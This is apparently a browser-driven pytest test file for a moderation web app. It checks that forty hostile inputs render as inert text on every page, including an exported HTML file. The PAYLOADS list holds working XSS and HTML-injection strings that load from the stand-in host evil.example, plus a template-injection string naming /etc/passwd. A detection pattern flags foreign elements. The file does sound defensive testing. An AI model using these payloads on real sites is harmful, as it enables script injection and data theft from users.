"""Forty hostile texts through every page that shows what somebody wrote, in a real browser (safety W1).

Nothing is asked for elsewhere, nothing speaks up, and nothing of it becomes a part of a page.
"""

import zipfile
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, BrowserContext, Page

from monitor.domain.case import Move
from monitor.domain.finding import Span
from monitor.domain.ids import AccountId, CaseId, MemberId
from monitor.domain.post import AccountRef
from monitor.domain.thread import Remark, Side
from monitor.usecases.helping import take
from tests.usecases.comms import colleague
from tests.web.kept import let_in
from tests.web.portal import Portal, insult
from tests.web.test_browser import CHROMIUM, base, browser, served

__all__ = ["browser", "served"]

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.real,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Chromium"),
]

FAR = "//evil.example/"
PAYLOADS = [
    "<script>alert(1)</script>",
    f"<script src={FAR}x.js></script>",
    f"<img src={FAR}x onerror=alert(1)>",
    f"<img/src='{FAR}x'/onerror='alert(1)'>",
    f'<IMG SRC="{FAR}x" ONERROR=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><image href='{FAR}x'/></svg>",
    f"<svg><use href='{FAR}x#y'/></svg>",
    f"<iframe src={FAR}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    f"<object data={FAR}></object>",
    f"<embed src={FAR}>",
    f"<link rel=stylesheet href={FAR}x.css>",
    f"<link rel=prefetch href={FAR}x>",
    f"<link rel=dns-prefetch href={FAR}>",
    f"<style>@import '{FAR}x.css';*{{display:none}}</style>",
    f"<div style=background:url({FAR}x)>x</div>",
    f"<meta http-equiv=refresh content='0;url=http:{FAR}'>",
    f"<base href={FAR}>",
    f"<form action={FAR}><button autofocus>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    f"<video poster={FAR}x src={FAR}y autoplay></video>",
    f"<audio src={FAR}x autoplay></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    f"</textarea><script>alert(1)</script><img src={FAR}a>",
    f"</title><script>alert(1)</script><img src={FAR}b>",
    f"--><img src={FAR}c onerror=alert(1)><!--",
    f"]]><img src={FAR}d onerror=alert(1)>",
    f"'\"><img src={FAR}e onerror=alert(1)>",
    f"&lt;img src={FAR}f onerror=alert(1)&gt;",
    "{{ 7*7 }}{% include '/etc/passwd' %}${alert(1)}",
    f"<math><mtext><table><mglyph><style><img src={FAR}g onerror=alert(1)>",
    f"<noscript><p title='</noscript><img src={FAR}h onerror=alert(1)>'>",
    f"\u202e<img src={FAR}i>\u2066\ufeff<x hx-get={FAR}j hx-trigger=load>",
]
FOREIGN = r"""() => [...document.querySelectorAll('*')].filter(e =>
    [...e.attributes].some(a => a.name.startsWith('on')
        || /^\s*((https?:)?\/\/evil|javascript:|url\()/i.test(a.value) && !['value', 'title'].includes(a.name))
    || (e.tagName === 'SCRIPT' && !(e.getAttribute('src') || '').startsWith('/static/'))
    || ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MARQUEE', 'VIDEO', 'AUDIO', 'MATH'].includes(e.tagName)
).map(e => e.outerHTML.slice(0, 200))"""
"""Whatever of a page is not ours, or calls anybody."""


def test_there_are_forty_of_them():
    assert len(set(PAYLOADS)) == 40


class Watch:
    """What a browser did that nobody asked it to."""

    def __init__(self, portal: Portal, context: BrowserContext) -> None:
        self.home = base(portal)
        self.done: list[str] = []
        context.on("request", self._asked)
        context.on("dialog", self._spoke)
        context.on("console", self._complained)

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.home, "file://")):
            self.done.append(f"asked {request.url}")

    async def _spoke(self, dialog: Any) -> None:
        self.done.append(f"spoke {dialog.message}")
        await dialog.dismiss()

    def _complained(self, message: Any) -> None:
        if "Content Security Policy" in message.text:
            self.done.append(message.text)


def written(portal: Portal) -> list[str]:
    """Noor, whose every word is hostile, and what others wrote; the codes of her cases."""
    portal.stage.enrol(baseline_done=True)
    codes = [f"K{number:03}" for number in range(len(PAYLOADS))]
    for code, payload in zip(codes, PAYLOADS, strict=True):
        found = (insult(span=Span(0, 3)),)
        portal.open_case(code, findings=found, post_url=f"https://scripted.example/{payload}")
    everything = " ".join(PAYLOADS)
    with portal.stage.store.begin() as tx:
        for code, payload in zip(codes, PAYLOADS, strict=True):
            tx.save_text(CaseId(code), f"{payload} you idiot {payload}")
            tx.add_remark(CaseId(code), Remark(portal.stage.now, Side.COMMS, payload))
            tx.save_case(tx.case(CaseId(code)).moved(Move.ASK, portal.stage.now))
            take(tx, tx.case(CaseId(code)), colleague(tx), "", portal.stage.now)
        noor = tx.member(MemberId("m1"))
        tx.save_member(replace(noor, name=PAYLOADS[2], role=everything[:2000]))
        account = tx.account(AccountId("a1"))
        ref = AccountRef("scripted", account.ref.address, account.ref.key, PAYLOADS[34])
        terms = f"https://scripted.example/{PAYLOADS[2]}"
        tx.save_accounts([replace(account, ref=ref, bio=everything, terms=terms)])
    return codes


async def come(portal: Portal, browser: Browser, role: str) -> tuple[Page, Watch]:
    somebody = let_in(portal, role)
    context = await browser.new_context(locale="en")
    secret = somebody.client.cookies["amends"]
    await context.add_cookies([{"name": "amends", "value": secret, "url": base(portal)}])
    return await context.new_page(), Watch(portal, context)


async def test_W1_forty_payloads_on_every_page_ask_for_nothing_and_say_nothing(
    browser: Browser, served: Portal
):
    codes = written(served)
    seen = {
        "member": [
            *(f"/c/{code}" for code in codes),
            *("/me", "/me/choices", "/accounts/a1", "/c/K000/no", "/me/consent"),
        ],
        "comms": [*(f"/comms/{code}" for code in codes), "/comms", "/comms/help"],
        "privacy-officer": ["/log"],
        "operator": ["/status"],
    }
    for role, paths in seen.items():
        page, watch = await come(served, browser, role)
        for path in paths:
            answer = await page.goto(f"{base(served)}{path}")
            assert answer is not None
            assert answer.status == 200, path
            assert await page.evaluate(FOREIGN) == [], path
            shown = path.split("/")[-1] in codes
            assert not shown or "you idiot" in await page.inner_text("main"), path
        assert watch.done == [], role
        await page.context.close()


async def test_W1_what_a_policy_owner_types_is_text_too(browser: Browser, served: Portal):
    page, watch = await come(served, browser, "policy-owner")
    for payload in (*PAYLOADS[::8], "\n".join(PAYLOADS)):
        await page.goto(f"{base(served)}/rules/voice.insult/edit")
        await page.fill("[name=text]", payload)
        await page.fill("[name=posts]", payload)
        async with page.expect_navigation():
            await page.click("button[value=check]")
        assert await page.evaluate(FOREIGN) == [], payload
    assert watch.done == []
    await page.context.close()


async def test_W1_the_file_that_a_member_takes_along_asks_for_nothing_either(
    browser: Browser, served: Portal, tmp_path: Path
):
    """It is opened from a disk, where no policy of ours holds."""
    written(served)
    noor = let_in(served, "member")
    taken = await noor.client.get("/me/export")
    with zipfile.ZipFile(BytesIO(taken.content)) as archive:
        (name,) = (name for name in archive.namelist() if name.endswith(".html"))
        (tmp_path / "taken.html").write_bytes(archive.read(name))
    page, watch = await come(served, browser, "member")
    await page.goto(f"file://{tmp_path / 'taken.html'}")
    assert "evil.example" in await page.inner_text("body")
    assert await page.evaluate(FOREIGN) == []
    assert watch.done == []
    await page.context.close()


async def test_the_watch_sees_a_page_that_does_what_it_should_not(
    browser: Browser, served: Portal, tmp_path: Path
):
    (tmp_path / "bad.html").write_text("".join(PAYLOADS[:6]), "utf-8")
    page, watch = await come(served, browser, "member")
    await page.goto(f"file://{tmp_path / 'bad.html'}")
    await page.locator("img").nth(1).wait_for(state="attached")
    assert await page.evaluate(FOREIGN) != []
    assert any(done.startswith("spoke") for done in watch.done)
    await page.context.close()
